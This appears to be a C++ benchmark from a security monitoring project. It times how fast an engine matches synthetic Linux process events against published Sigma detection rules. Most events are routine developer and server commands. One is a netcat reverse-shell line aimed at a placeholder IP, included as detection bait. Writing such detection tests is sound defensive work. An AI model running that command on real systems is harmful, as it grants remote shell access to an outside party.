// Process events per CPU second with all published Linux rules loaded, against the rate that
// is wanted; the same with the rules that the executable carries, and what compiling them costs.
#include <sys/resource.h>

#include <array>
#include <filesystem>
#include <iostream>

#include "bench/measure.h"
#include "modules/intelligence/rules/rule_files.h"

using namespace amoskys;
using namespace amoskys::bench;

namespace {

constexpr int rounds = 7;
constexpr std::size_t events_a_round = 400'000;
constexpr double wanted_per_s = 300'000;

// Programs as a developer's machine, a build and a server start them, long lines among them.
struct Started {
    const char *exe, *cmdline, *parent;
};
constexpr std::array started{
    Started{"/usr/bin/bash", "bash -c make -j8 all && ctest", "/usr/bin/gnome-terminal-server"},
    Started{"/usr/bin/git", "git -c core.pager=cat log --oneline -n 20", "/usr/bin/bash"},
    Started{"/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus",
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus -quiet -I /home/dev/project/include "
            "-imultiarch x86_64-linux-gnu -MD build/main.d -MF build/main.o.d -D_GNU_SOURCE "
            "src/main.cc -O2 -Wall -Wextra -std=c++20 -fPIC -o /tmp/ccXyz123.s",
            "/usr/bin/g++"},
    Started{"/usr/bin/x86_64-linux-gnu-as", "as -I include --64 -o build/main.o /tmp/ccXyz123.s",
            "/usr/bin/g++"},
    Started{"/usr/sbin/sshd", "sshd: deploy [priv]", "/usr/sbin/sshd"},
    Started{"/usr/bin/python3.11", "python3 /srv/app/manage.py runserver 0.0.0.0:8000",
            "/usr/bin/bash"},
    Started{"/usr/sbin/cron", "/usr/sbin/CRON -f", "/usr/sbin/cron"},
    Started{"/bin/sh", "/bin/sh -c test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily",
            "/usr/sbin/cron"},
    Started{"/usr/bin/ls", "ls --color=auto -la /var/lib/app", "/usr/bin/bash"},
    Started{"/usr/bin/grep", "grep -rn handle_request src", "/usr/bin/bash"},
    Started{"/usr/bin/node",
            "node --max-old-space-size=4096 /srv/web/node_modules/.bin/webpack --mode production "
            "--config webpack.prod.js --progress",
            "/usr/bin/npm"},
    Started{"/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx"},
    Started{"/usr/lib/postgresql/15/bin/postgres", "postgres: app app 10.0.0.7(41234) SELECT",
            "/usr/lib/postgresql/15/bin/postgres"},
    Started{"/usr/bin/tar", "tar czf backup-2026-01-02.tar.gz --exclude=cache data",
            "/usr/bin/bash"},
    Started{"/usr/bin/curl", "curl -fsS https://registry.example/v2/app/manifests/latest",
            "/usr/bin/bash"},
    Started{"/usr/bin/systemctl", "systemctl status nginx.service", "/usr/bin/bash"},
    Started{"/usr/bin/dpkg", "dpkg --status-fd 9 --configure --pending", "/usr/bin/apt-get"},
    Started{"/usr/bin/sed", "sed -e s/foo/bar/g -i config.ini", "/usr/bin/make"},
    Started{"/usr/bin/java",
            "java -Xms2g -Xmx2g -XX:+UseG1GC -Djava.io.tmpdir=/var/lib/es/tmp "
            "-Des.path.home=/usr/share/es -cp /usr/share/es/lib/* org.es.bootstrap.Server -d",
            "/usr/lib/systemd/systemd"},
    Started{"/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444", "/usr/bin/bash"},  // one in twenty
};

std::vector<messaging::ProcessEvent> made_events() {
    std::vector<messaging::ProcessEvent> out;
    std::uint64_t pid = 1000;
    for (const Started& each : started) {
        messaging::ProcessEvent event;
        event.set_pid(++pid);
        event.set_ppid(1000);
        event.set_kind("EXEC");
        event.set_exe(each.exe);
        event.set_cmdline(each.cmdline);
        event.set_parent_exe(each.parent);
        event.set_user("dev");
        event.set_cwd("/home/dev/project");
        out.push_back(std::move(event));
    }
    return out;
}

double cpu_s() {
    rusage used{};
    getrusage(RUSAGE_SELF, &used);
    return static_cast<double>(used.ru_utime.tv_sec + used.ru_stime.tv_sec) +
           static_cast<double>(used.ru_utime.tv_usec + used.ru_stime.tv_usec) / 1e6;
}

double events_per_s(rules::Engine& engine, const std::vector<messaging::ProcessEvent>& events,
                    std::uint64_t& matches) {
    std::vector<double> rates;
    for (int round = 0; round < rounds; ++round) {
        matches = 0;
        wire::Event view;
        view.kind = wire::EventKind::process;
        view.device = "box";
        const double begun = cpu_s();
        for (std::size_t i = 0; i < events_a_round; ++i) {
            view.process = &events[i % events.size()];
            matches += engine.match(view).size();
        }
        rates.push_back(static_cast<double>(events_a_round) / (cpu_s() - begun));
    }
    return median(rates);
}

}  // namespace

int main(int argc, char** argv) {
    const Form form = form_of(argc, argv);
    const std::filesystem::path published = std::filesystem::path(AMOSKYS_SHARED_DATA) / "sigma";
    if (!std::filesystem::exists(published)) {
        std::cerr << "bench/run sigma: there are no Sigma rules at " << published
                  << "; set AMOSKYS_SHARED_DATA\n";
        return 66;
    }
    const auto events = made_events();
    std::size_t bytes = 0;
    for (const auto& event : events)
        bytes += event.exe().size() + event.cmdline().size() + event.parent_exe().size();
    std::vector<Row> rows;
    std::uint64_t matches = 0;

    const double compile_begun = cpu_s();
    auto all = need(
        rules::Engine::build(need(rules::rules_below(published)), need(rules::embedded_mapping())));
    const double compile_s = cpu_s() - compile_begun;
    std::size_t on_processes = 0;
    for (std::size_t i = 0; i < all->rules().size(); ++i)
        for (const std::string& kind : all->placement(i).classes)
            on_processes += kind == "process" ? 1 : 0;
    rows.push_back({"process events, all Linux rules", "events/s",
                    events_per_s(*all, events, matches), wanted_per_s, "wanted"});
    const auto counts = all->counts();
    const double looked_at =
        static_cast<double>(counts.rules_looked_at) / static_cast<double>(counts.events);
    auto own = need(rules::Engine::build(rules::embedded_rules(), need(rules::embedded_mapping())));
    std::uint64_t own_matches = 0;
    rows.push_back({"process events, the rules carried along", "events/s",
                    events_per_s(*own, events, own_matches), wanted_per_s, "wanted"});
    rows.push_back({"reading and compiling all rules", "ms", compile_s * 1000, 0, ""});
    print(rows,
          {std::to_string(on_processes) + " rules on process events of " +
           std::to_string(all->rules().size()) + " published ones; " +
           std::to_string(bytes / events.size()) + " bytes of text an event; " +
           std::to_string(matches) + " matches in " + std::to_string(events_a_round) + " events; " +
           std::to_string(looked_at) + " rules looked at an event"},
          form);
    return 0;
}
